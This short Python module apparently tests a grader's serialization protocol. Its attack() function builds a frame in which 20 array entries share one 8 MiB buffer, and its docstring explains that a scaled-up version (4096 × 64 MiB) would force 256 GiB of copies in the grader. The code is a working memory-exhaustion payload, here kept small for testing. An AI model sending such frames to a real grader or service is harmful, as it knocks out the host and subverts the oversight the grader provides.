"""Lets many arrays lie in the same bytes, so that a small frame becomes a lot of memory.

Each array of truth values is copied when it is read; 4096 of them, of 64 MiB each, would be
256 GiB in the grader. Here it is 20 times 8 MiB.
"""

import json
import os
import struct

UNPROTECTED = "not shown: it is about our own protocol"


def attack(target):
    array = ["|b1", 8 << 20]
    value = {"t": "list", "items": [array] * 20}
    header = json.dumps({"kind": "returned", "value": value}).encode()
    data = struct.pack("<IId", len(header), 8 << 20, 0.0) + header + bytes(8 << 20)
    while data:
        data = data[os.write(3, data) :]
